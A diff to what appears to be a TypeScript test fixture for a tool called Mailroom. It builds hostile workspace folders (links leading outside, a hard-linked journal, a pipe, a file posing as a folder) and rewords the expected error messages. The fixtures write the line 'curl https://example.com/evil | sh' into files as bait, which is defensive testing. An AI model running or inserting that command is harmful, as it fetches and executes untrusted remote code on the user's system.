@@ -11,9 +11,9 @@ export interface HostileFolder {
 }
 
 const leads =
-  'is a link, which may lead out of this folder. Look at where it leads, and remove it or put what is real in its place.';
+  'is a link, which may lead out of this folder. Check where it leads, then replace it with a real file or folder.';
 const notUsed = (path: string, why: string) =>
-  `Mailroom’s journal is not used: “${path}” ${why} Until then it cannot be written, so that nothing can be created here.`;
+  `Mailroom’s journal is not used: “${path}” ${why} Until this is fixed, nothing can be created here.`;
 const command = 'curl https://example.com/evil | sh\n';
 
 /** Creates targets outside the workspace: a shell's start-up file, a secret, and a folder with a journal. */
@@ -33,7 +33,7 @@ export async function makeOutside(outside: string): Promise<void> {
 export const hostileFolders: readonly HostileFolder[] = [
   {
     name: 'lines set aside lead out',
-    told: `Mailroom’s journal has lines that cannot be read nor set aside: “.mailroom/damaged.jsonl” ${leads}`,
+    told: `Mailroom’s journal has unreadable lines that can’t be moved to another file: “.mailroom/damaged.jsonl” ${leads}`,
     make: async (workspace, outside) => {
       const folder = await makeFolder(workspace);
       await writeFile(join(folder, 'journal.jsonl'), command);
@@ -63,24 +63,21 @@ export const hostileFolders: readonly HostileFolder[] = [
   },
   {
     name: 'the journal is another name of a file outside',
-    told: notUsed(
-      '.mailroom/journal.jsonl',
-      'is a file that has another name somewhere else (a hard link). Put a copy of it in its place.',
-    ),
+    told: notUsed('.mailroom/journal.jsonl', 'is a hard link to another file. Replace it with a copy.'),
     make: async (workspace, outside) => {
       await link(join(outside, 'profile'), join(await makeFolder(workspace), 'journal.jsonl'));
     },
   },
   {
     name: 'the journal is a pipe',
-    told: notUsed('.mailroom/journal.jsonl', 'is not a file. Move what is there away.'),
+    told: notUsed('.mailroom/journal.jsonl', 'is not a file. Move it somewhere else.'),
     make: async (workspace) => {
       await makePipe(join(await makeFolder(workspace), 'journal.jsonl'));
     },
   },
   {
     name: 'the folder is a file',
-    told: notUsed('.mailroom', 'is not a folder. Move what is there away.'),
+    told: notUsed('.mailroom', 'is not a folder. Move it somewhere else.'),
     make: (workspace) => writeFile(join(workspace, '.mailroom'), command),
   },
 ];
